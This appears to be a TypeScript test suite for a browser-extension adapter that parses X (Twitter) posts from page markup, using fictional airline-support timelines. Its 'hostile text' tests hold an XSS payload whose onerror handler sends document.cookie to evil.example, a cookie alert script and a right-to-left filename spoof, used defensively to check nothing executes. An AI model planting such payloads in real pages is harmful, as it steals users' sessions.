// @vitest-environment jsdom
import { readFileSync } from 'node:fs';
import { JSDOM } from 'jsdom';
import { describe, expect, it } from 'vitest';
import type { PageKind } from '../../lib/sites/adapter';
import { postSnapshotSchema, type PostSnapshot } from '../../lib/sites/post';
import { xAdapter } from '../../lib/sites/x/adapter';
import { articleHtml, snowflake, timelineHtml, type XPost } from '../fixtures/x/generate-timeline';

type Flag = 'hasAvatar' | 'verified' | 'isReply' | 'isQuote' | 'isRepost' | 'isAd';

const documents = new Map<string, Document>();

/** The value, or a failed test saying what was missing. */
function required<T>(value: T | null | undefined, what: string): T {
  if (value === null || value === undefined) throw new Error(`missing ${what}`);
  return value;
}

/** Where each saved page was taken: the adapter reads a status page's replies by its address. */
const FIXTURE_URLS: Record<string, string> = {
  'post-page': 'https://x.com/dtorres_88/status/1991894734599094274',
  notifications: 'https://x.com/notifications/mentions',
};

function fixture(name: string): Document {
  let doc = documents.get(name);
  if (!doc) {
    const url = FIXTURE_URLS[name] ?? 'https://x.com/home';
    doc = new JSDOM(readFileSync(`test/fixtures/x/${name}.html`, 'utf8'), { url }).window.document;
    documents.set(name, doc);
  }
  return doc;
}

function postElements(doc: Document): Element[] {
  const root = xAdapter.feedRoot(doc);
  if (!root) throw new Error('no feed root');
  return xAdapter.findPostElements(root);
}

function readAll(doc: Document): (PostSnapshot | null)[] {
  return postElements(doc).map((el) => xAdapter.readPost(el));
}

function snapshot(id: string, handle: string, authorName: string, time: string | null, flags: Flag[], text: string, replyingTo: string[] = []): PostSnapshot {
  const has = (flag: Flag) => flags.includes(flag);
  return {
    network: 'x', id, permalink: `https://x.com/${handle}/status/${id}`, authorName, handle, text, time,
    hasAvatar: has('hasAvatar'), verified: has('verified'), isReply: has('isReply'), replyingTo,
    isQuote: has('isQuote'), isRepost: has('isRepost'), isAd: has('isAd'),
  };
}

/** Parses markup the way a page would hold it and returns its first article. */
function articleFrom(html: string): Element {
  const article = new JSDOM(`<!DOCTYPE html><body>${html}</body>`).window.document.querySelector('article');
  if (!article) throw new Error('no article in markup');
  return article;
}

function readMarkup(html: string): PostSnapshot | null {
  return xAdapter.readPost(articleFrom(html));
}

const base: XPost = {
  id: snowflake('2025-11-21T12:00:00.000Z', 99),
  author: { name: 'Test Person', handle: 'test_person' },
  time: '2025-11-21T12:00:00.000Z',
  text: 'hello',
};

const HOME: PostSnapshot[] = [
  snapshot('1991897465090998272', 'lena_okafor', 'Lena Okafor', '2025-11-21T15:52:18.000Z', ['hasAvatar'], 'Finally finished the garden shed. Two weekends, one bruised thumb.'),
  snapshot('1991894734599094274', 'dtorres_88', 'Daniel Torres', '2025-11-21T15:41:27.000Z', [], '@AcmeAir my flight AC 418 was cancelled and nobody answers the phone. 3 hours on hold. What am I supposed to do?'),
  snapshot('1991891869889462273', 'AcmeAir', 'Acme Air', '2025-11-21T15:30:04.000Z', ['hasAvatar', 'verified'], 'Our winter schedule is live ✈️ 14 new routes, including daily flights to Tromsø from 5 December. Fares and dates: https://www.acmeair.example/winter-2025'),
  snapshot('1991887553950646277', 'priya_raman', 'Priya 🌻 Raman', '2025-11-21T15:12:55.000Z', ['hasAvatar', 'isReply'], 'Still waiting on my refund from October. Case #48213. Any update?', ['AcmeAir']),
  snapshot('1991883930071990278', 'jb_morales', 'J.B. Morales', '2025-11-21T14:58:31.000Z', ['hasAvatar', 'isQuote'], 'Lovely announcement. Now do baggage fees 🙄'),
  snapshot('1991855530439606275', 'AcmeAir_Help', 'Acme Air Support', '2025-11-21T13:05:40.000Z', ['hasAvatar', 'verified', 'isRepost'], 'We’re seeing longer wait times on our phone lines today. Send us a DM with your booking reference and we’ll help you right away.'),
  snapshot('1991084030161846279', 'CloudNest', 'CloudNest', null, ['hasAvatar', 'verified', 'isAd'], 'Back up every photo, automatically. Try CloudNest free for 30 days.'),
  snapshot('1991865940702134280', 'sunnyside_k', 'Kira Sun', '2025-11-21T13:47:02.000Z', ['hasAvatar'], 'Best. Weekend. Ever. 😀🎉🏖️\nThank you all for coming ❤️'),
  snapshot('1991856805508022281', 'petra_shoots', 'Petra Novak', '2025-11-21T13:10:44.000Z', ['hasAvatar'], ''),
  snapshot('1991846844036022276', 'marcus_lee', 'Marcus Lee', '2025-11-21T12:31:09.000Z', ['hasAvatar'], '@AcmeAir_Help lost my bag on AC 221 from Denver. Third day, no updates. Reference DEN-55821. This is ridiculous.'),
  snapshot('1991840317698998282', 'oli_wright', 'Oliver Wright', '2025-11-21T12:05:13.000Z', ['hasAvatar', 'isReply'], 'Same here. They rebooked me for Thursday 🤷', ['dtorres_88']),
  snapshot('1991833971717046283', 'techdesk', 'Tech Desk', '2025-11-21T11:40:00.000Z', ['hasAvatar', 'verified'], 'Five settings worth changing on your new phone #howto https://techdesk.example/guides/phone-settings'),
  snapshot('1991822798091190284', 'nadia_h', 'Nadia Hassan', '2025-11-21T10:55:36.000Z', ['hasAvatar'], 'شكراً لفريق الخدمة على المساعدة اليوم 💙'),
  snapshot('1991801344226230285', 'ferris_w', 'Ferris Wheeler', '2025-11-21T09:30:21.000Z', ['hasAvatar', 'isQuote'], 'Whatever this was, I agree.'),
];

const POST_PAGE: PostSnapshot[] = [
  snapshot('1991894734599094274', 'dtorres_88', 'Daniel Torres', '2025-11-21T15:41:27.000Z', [], '@AcmeAir my flight AC 418 was cancelled and nobody answers the phone. 3 hours on hold. What am I supposed to do?'),
  snapshot('1991896877888438292', 'AcmeAir_Help', 'Acme Air Support', '2025-11-21T15:49:58.000Z', ['hasAvatar', 'verified', 'isReply'], 'We’re sorry about AC 418, Daniel. Please send us a DM with your booking reference and we’ll look at rebooking options right away. ^MK', ['dtorres_88']),
  snapshot('1991897809023926293', 'dtorres_88', 'Daniel Torres', '2025-11-21T15:53:40.000Z', ['isReply'], 'Done, sent. Thanks for the quick reply 🙏', ['dtorres_88']),
  snapshot('1991895384716214294', 'oli_wright', 'Oliver Wright', '2025-11-21T15:44:02.000Z', ['hasAvatar', 'isReply'], 'Same flight. Any news on compensation?', ['dtorres_88']),
  snapshot('1991895942558646295', 'kt_nguyen', 'Kim Nguyen', '2025-11-21T15:46:15.000Z', ['hasAvatar', 'isReply'], 'They fixed mine within an hour yesterday, hang in there 👍', ['dtorres_88']),
];

const MENTIONS: PostSnapshot[] = [
  snapshot('1991898698216374302', 'sara_b', 'Sara Bianchi', '2025-11-21T15:57:12.000Z', ['hasAvatar'], '@AcmeAir_Help hi, my bag from FCO never arrived. File ref FCO-22817 😭'),
  snapshot('1991898102625206303', 'dtorres_88', 'Daniel Torres', '2025-11-21T15:54:50.000Z', ['isReply'], 'Thanks, DM sent. Booking ref is in there.', ['AcmeAir_Help']),
  snapshot('1991889474941878304', 'grace_o', 'Grace Owusu', '2025-11-21T15:20:33.000Z', ['hasAvatar', 'verified'], 'Shout out to @AcmeAir_Help for sorting my seat in 5 minutes 💙'),
  snapshot('1991869740741558305', 'ben_carter', 'Ben Carter', '2025-11-21T14:02:08.000Z', ['hasAvatar', 'isQuote'], '@AcmeAir_Help you said 24 hours. It has been 4 days.'),
  snapshot('1991828632368054306', 'yusuf_k', 'Yusuf Kaya', '2025-11-21T11:18:47.000Z', ['hasAvatar', 'isReply'], 'Teşekkürler, sorun çözüldü 👍', ['AcmeAir_Help', 'AcmeAir']),
];

describe('xAdapter on the fixtures', () => {
  it.each([
    ['home-timeline', HOME],
    ['post-page', POST_PAGE],
    ['notifications', MENTIONS],
  ])('reads every post of %s, in page order', (name, expected) => {
    expect(readAll(fixture(name))).toEqual(expected);
  });

  it('produces snapshots the schema accepts', () => {
    for (const name of ['home-timeline', 'post-page', 'notifications', 'reply-box']) {
      for (const post of readAll(fixture(name))) expect(postSnapshotSchema.safeParse(post).success).toBe(true);
    }
  });

  it('keeps the quoted post out of the quoting post', () => {
    const quoting = readAll(fixture('home-timeline'))[4];
    expect(quoting).toMatchObject({ handle: 'jb_morales', authorName: 'J.B. Morales', verified: false, isQuote: true });
    expect(quoting?.text).not.toContain('winter schedule');
    const mention = readAll(fixture('notifications'))[3];
    expect(mention?.text).not.toContain('longer wait times');
    expect(mention?.handle).toBe('ben_carter');
  });

  it('credits a repost to the original author, not to whoever reposted it', () => {
    const repost = readAll(fixture('home-timeline'))[5];
    expect(repost).toMatchObject({ handle: 'AcmeAir_Help', authorName: 'Acme Air Support', isRepost: true });
    expect(repost?.permalink).toBe('https://x.com/AcmeAir_Help/status/1991855530439606275');
  });

  it('tells an ad by its impression pixels, and not a video in a placementTracking box', () => {
    const posts = readAll(fixture('home-timeline'));
    expect(posts.filter((post) => post?.isAd).map((post) => post?.handle)).toEqual(['CloudNest']);
    expect(posts[13]).toMatchObject({ handle: 'ferris_w', isAd: false });
  });

  it('reads the opened post of a status page, whose time sits below its text', () => {
    const [focal] = readAll(fixture('post-page'));
    expect(focal?.time).toBe('2025-11-21T15:41:27.000Z');
    expect(focal?.permalink).toBe('https://x.com/dtorres_88/status/1991894734599094274');
  });

  it('finds no posts on a page whose markup changed, yet finds its column', () => {
    const doc = fixture('unrecognised');
    expect(xAdapter.feedRoot(doc)).not.toBeNull();
    expect(postElements(doc)).toEqual([]);
    expect(xAdapter.findPostElements(doc)).toEqual([]);
  });

  it('reads the post being answered in the reply dialog', () => {
    const doc = fixture('reply-box');
    expect(postElements(doc)).toHaveLength(4);
    const dialog = required(doc.querySelector('[role="dialog"]'), 'the dialog');
    const [answered] = xAdapter.findPostElements(dialog).map((el) => xAdapter.readPost(el));
    expect(answered).toEqual(HOME[9]);
  });
});

describe('replies and the signed-in account', () => {
  it('takes the replies under an opened post as answers to its author, only on a status page', () => {
    const html = readFileSync('test/fixtures/x/post-page.html', 'utf8');
    const elsewhere = new JSDOM(html, { url: 'https://x.com/home' }).window.document;
    const [, brandReply] = readAll(elsewhere);
    expect(brandReply).toMatchObject({ handle: 'AcmeAir_Help', isReply: false, replyingTo: [] });
    const [opened] = readAll(fixture('post-page'));
    expect(opened).toMatchObject({ isReply: false, replyingTo: [] });
  });

  it('reads every handle of a "Replying to" line, once each', () => {
    const reply = readMarkup(articleHtml({ ...base, replyingTo: ['AcmeAir', 'AcmeAir_Help', 'AcmeAir'] }, 'light'));
    expect(reply?.replyingTo).toEqual(['AcmeAir', 'AcmeAir_Help']);
  });

  it('reads the signed-in account from the menu, and null where there is none', () => {
    expect(xAdapter.viewerHandle(fixture('home-timeline'))).toBe('AcmeAir_Help');
    expect(xAdapter.viewerHandle(new JSDOM('<main></main>').window.document)).toBeNull();
  });
});

describe('feedRoot', () => {
  it('is the primary column, or main while the column has not rendered', () => {
    expect(xAdapter.feedRoot(fixture('home-timeline'))?.getAttribute('data-testid')).toBe('primaryColumn');
    const early = new JSDOM('<body><main role="main"><div>loading</div></main></body>').window.document;
    expect(xAdapter.feedRoot(early)?.localName).toBe('main');
    expect(xAdapter.feedRoot(new JSDOM('<body></body>').window.document)).toBeNull();
  });
});

describe('findPostElements', () => {
  it('leaves out a post drawn inside another one', () => {
    const inner = articleHtml({ ...base, id: '2', author: { name: 'Inner', handle: 'inner' } }, 'light');
    const outer = articleHtml(base, 'light').replace('</article>', `${inner}</article>`);
    const doc = new JSDOM(`<body>${outer}${articleHtml({ ...base, id: '3' }, 'light')}</body>`).window.document;
    expect(xAdapter.findPostElements(doc).map((el) => xAdapter.readPost(el)?.id)).toEqual([base.id, '3']);
  });
});

describe('findPostElement', () => {
  it('finds a post by its status id', () => {
    const doc = fixture('home-timeline');
    for (const expected of HOME) {
      const el = xAdapter.findPostElement(doc, expected.id);
      expect(el && xAdapter.readPost(el)?.id).toBe(expected.id);
    }
  });

  it('finds the opened post and the replies of a status page', () => {
    const doc = fixture('post-page');
    expect(xAdapter.findPostElement(doc, required(POST_PAGE[2], 'a reply').id)).toBe(postElements(doc)[2]);
  });

  it('finds nothing for an unknown id, a prefix of an id, or an id that is not digits', () => {
    const doc = fixture('home-timeline');
    expect(xAdapter.findPostElement(doc, '1234567890123456789')).toBeNull();
    expect(xAdapter.findPostElement(doc, required(HOME[0], 'a post').id.slice(0, -1))).toBeNull();
    expect(xAdapter.findPostElement(doc, '"] , article, [x="')).toBeNull();
    expect(xAdapter.findPostElement(doc, '')).toBeNull();
  });

  it('finds a row again after the site re-renders it', () => {
    const doc = new JSDOM(readFileSync('test/fixtures/x/home-timeline.html', 'utf8')).window.document;
    const first = required(postElements(doc)[0], 'a post element');
    const copy = first.cloneNode(true) as Element;
    first.replaceWith(copy);
    expect(xAdapter.findPostElement(doc, required(HOME[0], 'a post').id)).toBe(copy);
  });
});

describe('findComposeBoxes', () => {
  it('finds the Draft.js editor under the opened post and in the reply dialog', () => {
    const [inline] = xAdapter.findComposeBoxes(fixture('post-page'));
    expect(inline?.getAttribute('data-testid')).toBe('tweetTextarea_0');
    expect(inline?.getAttribute('role')).toBe('textbox');
    expect(inline?.classList.contains('public-DraftEditor-content')).toBe(true);
    const boxes = xAdapter.findComposeBoxes(fixture('reply-box'));
    expect(boxes).toHaveLength(2);
    expect(boxes.filter((box) => box.closest('[role="dialog"]'))).toHaveLength(1);
  });

  it('searches only under the root it is given', () => {
    const dialog = required(fixture('reply-box').querySelector('[role="dialog"]'), 'the dialog');
    expect(xAdapter.findComposeBoxes(dialog)).toHaveLength(1);
    expect(xAdapter.findComposeBoxes(fixture('notifications'))).toEqual([]);
  });

  it('ignores the editor\'s label and container, which share its test id prefix', () => {
    const doc = fixture('home-timeline');
    expect(doc.querySelectorAll('[data-testid^="tweetTextarea_"]').length).toBeGreaterThan(1);
    expect(xAdapter.findComposeBoxes(doc)).toHaveLength(1);
  });
});

describe('theme', () => {
  const doc = (html: string) => new JSDOM(html).window.document;

  it('reads the fixtures: light, and "Lights out" as dark', () => {
    expect(xAdapter.theme(fixture('home-timeline'))).toBe('light');
    expect(xAdapter.theme(fixture('notifications'))).toBe('dark');
  });

  it('reads "Dim" as dark', () => {
    expect(xAdapter.theme(doc(timelineHtml(2, { theme: 'dim' })))).toBe('dark');
  });

  it('falls back to color-scheme, then to the computed background', () => {
    expect(xAdapter.theme(doc('<html style="color-scheme: dark"><body></body></html>'))).toBe('dark');
    expect(xAdapter.theme(doc('<html style="font-size: 15px; color-scheme: light;"><body></body></html>'))).toBe('light');
    expect(xAdapter.theme(doc('<html><head><style>body{background-color:#15202b}</style></head><body></body></html>'))).toBe('dark');
    expect(xAdapter.theme(doc('<html><body></body></html>'))).toBe('light');
  });

  it('lets the body background win over a stale color-scheme', () => {
    expect(xAdapter.theme(doc('<html style="color-scheme: light"><body style="background-color: rgb(0, 0, 0);"></body></html>'))).toBe('dark');
  });
});

describe('pageKind', () => {
  const cases: [string, PageKind][] = [
    ['https://x.com/home', 'timeline'],
    ['https://twitter.com/home', 'timeline'],
    ['https://mobile.x.com/home', 'timeline'],
    ['https://x.com/notifications', 'notifications'],
    ['https://x.com/notifications/mentions', 'notifications'],
    ['https://x.com/notifications/verified', 'notifications'],
    ['https://x.com/search?q=%40AcmeAir&src=typed_query&f=live', 'search'],
    ['https://x.com/hashtag/travel?src=hashtag_click', 'search'],
    ['https://x.com/dtorres_88/status/1991894734599094274', 'post'],
    ['https://x.com/dtorres_88/status/1991894734599094274/', 'post'],
    ['https://x.com/dtorres_88/status/1991894734599094274/photo/1', 'post'],
    ['https://x.com/dtorres_88/status/1991894734599094274/quotes', 'post'],
    ['https://x.com/i/web/status/1991894734599094274', 'post'],
    ['https://x.com/i/status/1991894734599094274', 'post'],
    ['https://x.com/AcmeAir', 'profile'],
    ['https://x.com/AcmeAir/with_replies', 'profile'],
    ['https://x.com/AcmeAir/media', 'profile'],
    ['https://x.com/AcmeAir/highlights', 'profile'],
    ['https://x.com/', 'unsupported'],
    ['https://x.com/home/extra', 'unsupported'],
    ['https://x.com/explore', 'unsupported'],
    ['https://x.com/explore/tabs/trending', 'unsupported'],
    ['https://x.com/messages', 'unsupported'],
    ['https://x.com/messages/123-456', 'unsupported'],
    ['https://x.com/settings/account', 'unsupported'],
    ['https://x.com/compose/post', 'unsupported'],
    ['https://x.com/login', 'unsupported'],
    ['https://x.com/i/flow/login', 'unsupported'],
    ['https://x.com/i/bookmarks', 'unsupported'],
    ['https://x.com/i/lists/123', 'unsupported'],
    ['https://x.com/AcmeAir/followers', 'unsupported'],
    ['https://x.com/AcmeAir/status/123/analytics', 'unsupported'],
    ['https://x.com/AcmeAir/status/not-a-number', 'unsupported'],
    ['https://x.com/search-advanced', 'unsupported'],
    ['https://x.com/tos', 'unsupported'],
    ['https://x.com/a_handle_that_is_far_too_long', 'unsupported'],
    ['https://example.com/home', 'unsupported'],
  ];

  it.each(cases)('%s is %s', (url, kind) => {
    expect(xAdapter.pageKind(new URL(url))).toBe(kind);
  });

  it('matches the hosts it reads', () => {
    expect(xAdapter.matches).toEqual(['https://x.com/*', 'https://twitter.com/*', 'https://mobile.x.com/*', 'https://mobile.twitter.com/*']);
    expect(xAdapter.network).toBe('x');
  });
});

describe('readPost on malformed markup', () => {
  it('returns null for an article without any permalink', () => {
    const html = articleHtml(base, 'light').replace(/href="\/test_person\/status\/\d+[^"]*"/g, 'href="#"');
    expect(readMarkup(html)).toBeNull();
  });

  it('returns null for an empty article, a tombstone and elements that are not posts', () => {
    expect(readMarkup('<article data-testid="tweet" role="article"></article>')).toBeNull();
    expect(readMarkup('<article data-testid="tweet" tabindex="0"><div><div dir="ltr"><span>This post was deleted by the post author. </span><a href="https://help.x.com/rules-and-policies/notices-on-x">Learn more</a></div></div></article>')).toBeNull();
    const div = required(new JSDOM('<body><div>text</div></body>').window.document.querySelector('div'), 'a div');
    expect(xAdapter.readPost(div)).toBeNull();
  });

  it('never throws on garbage inside an article', { timeout: 20_000 }, () => {
    const garbage = [
      '<article data-testid="tweet"><time datetime="yesterday">?</time><a href="/x/status/">x</a><a>no href</a><a href="javascript:alert(1)">@js</a></article>',
      '<article data-testid="tweet"><div data-testid="User-Name"></div><div data-testid="tweetText"><svg><path d="M0"/></svg></div><a href="/ok_name/status/42"><time>now</time></a></article>',
      '<article data-testid="tweet"><div role="link"><div role="link"><article><article></article></article></div></div><a href="/a/status/7"><time datetime="2025-13-45T99:99:99Z">bad</time></a></article>',
      `<article data-testid="tweet"><div data-testid="tweetText">${'<span>'.repeat(2000)}deep${'</span>'.repeat(2000)}</div><a href="/deep/status/1"><time datetime="2025-01-01T00:00:00Z">x</time></a></article>`,
      '<article data-testid="tweet"><a href="https://evil.example/status/123">x</a><a href="/i/web/status/99999999999999999999999">too long</a></article>',
    ];
    const [noLink, emptyParts, nestedBoxes, deepText, foreignLinks] = garbage.map((html) => {
      let post: PostSnapshot | null = null;
      expect(() => (post = readMarkup(html))).not.toThrow();
      return post;
    });
    expect(noLink).toBeNull();
    expect(emptyParts).toMatchObject({ id: '42', handle: 'ok_name', text: '', authorName: '', time: null });
    expect(nestedBoxes).toMatchObject({ id: '7', time: null, isQuote: true });
    expect(deepText).toMatchObject({ id: '1', handle: 'deep', time: '2025-01-01T00:00:00Z', text: 'deep' });
    expect(foreignLinks).toBeNull();
  });

  it('leaves out a time the snapshot schema would refuse', () => {
    const time = (datetime: string) => readMarkup(`<article data-testid="tweet"><a href="/a/status/1"><time datetime="${datetime}">x</time></a></article>`)?.time;
    expect(time('2025-01-01T00:00Z')).toBeNull();
    expect(time('2025-01-01T00:00:00+0200')).toBeNull();
    expect(time('2025-01-01T00:00:00.000+02:00')).toBe('2025-01-01T00:00:00.000+02:00');
  });

  it('reads a post whose link is absolute, or has no handle', () => {
    const absolute = '<article data-testid="tweet"><a href="https://twitter.com/Old_Style/status/123456"><time datetime="2020-05-01T10:00:00.000Z">x</time></a></article>';
    expect(readMarkup(absolute)).toMatchObject({ id: '123456', handle: 'Old_Style', permalink: 'https://x.com/Old_Style/status/123456' });
    const anonymous = '<article data-testid="tweet"><a href="/i/web/status/123456"><time datetime="2020-05-01T10:00:00.000Z">x</time></a></article>';
    expect(readMarkup(anonymous)).toMatchObject({ id: '123456', handle: '', permalink: 'https://x.com/i/web/status/123456' });
  });

  it('caps what it reads to what a snapshot may hold', () => {
    const long = readMarkup(articleHtml({ ...base, author: { name: 'N'.repeat(2000), handle: 'long_name' }, text: 'a'.repeat(150_000) }, 'light'));
    expect(long?.authorName).toHaveLength(512);
    expect(long?.text).toHaveLength(100_000);
    expect(postSnapshotSchema.safeParse(long).success).toBe(true);
  });
});

describe('readPost on hostile text', () => {
  it.each([
    ['a script tag', '<script>alert(document.cookie)</script> please refund'],
    ['an image with onerror', '<img src=x onerror="fetch(`//evil.example?c=${document.cookie}`)">'],
    ['right-to-left override', 'invoice\u202Efdp.exe and \u2066isolated\u2069 text'],
    ['markup entities', '&lt;b&gt; &amp;amp; "quotes" \'single\''],
    ['10 KB of emoji', '😀🔥👍🏽🇬🇧👨‍👩‍👧❤️'.repeat(400)],
  ])('reads %s as plain text', (_label, text) => {
    const post = readMarkup(articleHtml({ ...base, text }, 'light'));
    expect(post?.text).toBe(text);
  });

  it('skips script and style elements that reach the text, without running them', () => {
    const html = articleHtml(base, 'light').replace('>hello<', '>hello<script>window.ran = true; "code"</script><style>body{}</style><');
    const dom = new JSDOM(`<body>${html}</body>`, { runScripts: 'outside-only' });
    const post = xAdapter.readPost(required(dom.window.document.querySelector('article'), 'the article'));
    expect(post?.text).toBe('hello');
    expect((dom.window as unknown as { ran?: boolean }).ran).toBeUndefined();
  });

  it('reads <br> as a line break and drops the "…" of a shortened link', () => {
    const html = articleHtml({ ...base, text: 'see https://status.example.com/incidents/123456789' }, 'light').replace('>see <', '>see<br><');
    expect(readMarkup(html)?.text).toBe('see\nhttps://status.example.com/incidents/123456789');
  });

  it('reads names with emoji and keeps line breaks', () => {
    const post = readMarkup(articleHtml({ ...base, author: { name: '✈️ Ana 👋🏽', handle: 'ana' }, text: 'one\n\ntwo\nthree' }, 'light'));
    expect(post).toMatchObject({ authorName: '✈️ Ana 👋🏽', text: 'one\n\ntwo\nthree' });
  });
});

describe('readPost flags', () => {
  it('tells a repost by the arrow beside it, in any language', () => {
    const french = readMarkup(articleHtml({ ...base, repostedBy: { name: 'Lena Okafor', handle: 'lena_okafor' }, repostWord: 'a reposté' }, 'light'));
    expect(french?.isRepost).toBe(true);
    const japanese = articleHtml({ ...base, repostedBy: { name: 'Ren', handle: 'ren' }, repostWord: 'さんがリポストしました' }, 'light')
      .replace(/<path d="M4\.75 3\.79[^"]*">/, '<path d="M0 0h1v1z">');
    expect(readMarkup(japanese)?.isRepost).toBe(true);
  });

  it('does not count a pinned post or a community as a repost', () => {
    const withContext = articleHtml({ ...base, repostedBy: { name: 'Someone', handle: 'someone' } }, 'light')
      .replace(/<path d="M4\.75 3\.79[^"]*">/, '<path d="M8 2h8v2z">');
    const pinned = withContext.replace(/<span dir="ltr"[^]*?<\/span> reposted/, 'Pinned');
    expect(readMarkup(pinned)?.isRepost).toBe(false);
    const community = articleHtml({ ...base, repostedBy: { name: 'Rail Fans', handle: 'someone' }, repostWord: '' }, 'light')
      .replace('href="/someone"', 'href="/i/communities/1881032935299539081"');
    expect(readMarkup(community)?.isRepost).toBe(false);
  });

  it('does not take a mention in the text for a reply', () => {
    expect(readMarkup(articleHtml({ ...base, text: '@AcmeAir hello @AcmeAir_Help' }, 'light'))?.isReply).toBe(false);
    expect(readMarkup(articleHtml({ ...base, replyingTo: ['AcmeAir'] }, 'light'))?.isReply).toBe(true);
  });

  it('takes a promoted post without pixels for an ad by its label', () => {
    const html = articleHtml({ ...base, time: undefined, promoted: { cardUrl: 'https://shop.example/', cardTitle: 'Shop' }, media: 'photo' }, 'light');
    const unlabelled = articleHtml({ ...base, time: undefined, media: 'photo' }, 'light');
    expect(readMarkup(html)).toMatchObject({ isAd: true, time: null });
    expect(readMarkup(unlabelled)).toMatchObject({ isAd: false, time: null });
    expect(readMarkup(articleHtml({ ...base, text: 'Ad' }, 'light'))?.isAd).toBe(false);
  });

  it('sees no avatar when the picture is missing', () => {
    const html = articleHtml(base, 'light').replace(/<img alt="" draggable="true"[^>]*>/, '');
    expect(readMarkup(html)?.hasAvatar).toBe(false);
  });
});

describe('generated timelines', () => {
  it('are the same for the same seed and differ between seeds', () => {
    expect(timelineHtml(30, { seed: 7 })).toBe(timelineHtml(30, { seed: 7 }));
    expect(timelineHtml(30, { seed: 7 })).not.toBe(timelineHtml(30, { seed: 8 }));
  });

  it('hold readable posts of every kind', { timeout: 30_000 }, () => {
    const doc = new JSDOM(timelineHtml(60, { seed: 2 })).window.document;
    const posts = readAll(doc);
    expect(posts).toHaveLength(60);
    expect(posts.every((post) => post !== null && postSnapshotSchema.safeParse(post).success)).toBe(true);
    const count = (flag: Flag) => posts.filter((post) => post?.[flag]).length;
    for (const flag of ['isReply', 'isQuote', 'isRepost', 'isAd', 'verified'] as const) expect(count(flag)).toBeGreaterThan(0);
    expect(posts.some((post) => post?.text === '')).toBe(true);
    expect(new Set(posts.map((post) => post?.id)).size).toBe(60);
  });
});
